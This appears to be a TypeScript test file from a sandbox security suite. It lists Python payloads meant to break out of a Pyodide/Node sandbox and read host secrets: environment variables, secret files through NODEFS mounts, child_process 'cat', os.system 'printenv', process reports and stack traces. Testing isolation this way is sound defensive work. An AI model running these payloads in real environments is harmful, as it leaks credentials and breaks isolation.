/** Looking for what a submission must not know of the host, and saying it aloud. */
import { attacks } from '../payload.ts';

const says = (body: string): string =>
  `def double(x):\n    try:\n${body.replace(/^/gm, '        ')}\n    except BaseException as error: return str(error)\n    return 0\n`;
const PROCESS = 'from js import process\n';

export const hostSecrets = attacks(
  { language: 'python', class: 'information of the host', kind: 'read', control: 'plain' },
  {
    'the environment, by js': says(`${PROCESS}return process.env.NABLA_SECRET`),
    'the environment, printed': says(`${PROCESS}print(process.env.NABLA_SECRET)`),
    'the environment, printed to standard error': says(
      `${PROCESS}import sys\nprint(process.env.NABLA_SECRET, file=sys.stderr)`,
    ),
    'the environment, in an error': `def double(x):\n    import js\n    raise ValueError(js.process.env.NABLA_SECRET)\n`,
    'the environment, as JSON': says('import js\nreturn js.JSON.stringify(js.process.env)'),
    'the environment, by JavaScript in text': says(
      'from pyodide.code import run_js\nreturn run_js("JSON.stringify(process.env)")',
    ),
    'the environment, by a script of Emscripten': says(
      'import ctypes\nrun = ctypes.CDLL(None).emscripten_run_script_string\nrun.restype = ctypes.c_char_p\nreturn run(b"process.env.NABLA_SECRET").decode()',
    ),
    'the environment, by a command and a file of the host': says(
      'import os, pyodide_js\nos.system("printenv NABLA_SECRET > " + MARKER + ".txt")\npyodide_js.mountNodeFS("/host", "/tmp")\nreturn open("/host" + MARKER[4:] + ".txt").read()',
    ),
    'a file, by js': says(`${PROCESS}return process.getBuiltinModule("fs").readFileSync(SECRET_FILE, "utf8")`),
    'a file, by a mount': says(
      'import pyodide_js\npyodide_js.mountNodeFS("/host", "/tmp")\nreturn open("/host" + SECRET_FILE[4:]).read()',
    ),
    'a file, by NODEFS': says(
      'import pyodide_js\nfrom js import Object\nfrom pyodide.ffi import to_js\nFS = pyodide_js.FS\nFS.mkdir("/other")\nFS.mount(FS.filesystems.NODEFS, to_js({"root": "/"}, dict_converter=Object.fromEntries), "/other")\nreturn open("/other" + SECRET_FILE).read()',
    ),
    'a file, by a child process': says(
      'import js\nreturn js.eval("process.getBuiltinModule(\'child_process\').execSync(\'cat " + SECRET_FILE + "\').toString()")',
    ),
    'the working folder': says(`${PROCESS}return process.cwd()`),
    'the arguments of the process': says(`${PROCESS}return " ".join(process.argv)`),
    'the report of the process': says(
      'import js\nreturn js.JSON.stringify(js.process.report.getReport().environmentVariables)',
    ),
    'the stack of a JavaScript error': says('from pyodide.code import run_js\nreturn run_js("new Error().stack")'),
    'the stack of an error of Pyodide': says(
      'import js\ntry: js.eval("null.x")\nexcept Exception as error: return error.stack',
    ),
    'where Pyodide lies': says(
      'import pyodide_js\nreturn str(pyodide_js._api.config.packageBaseUrl) + str(pyodide_js._api.config.indexURL)',
    ),
  },
);
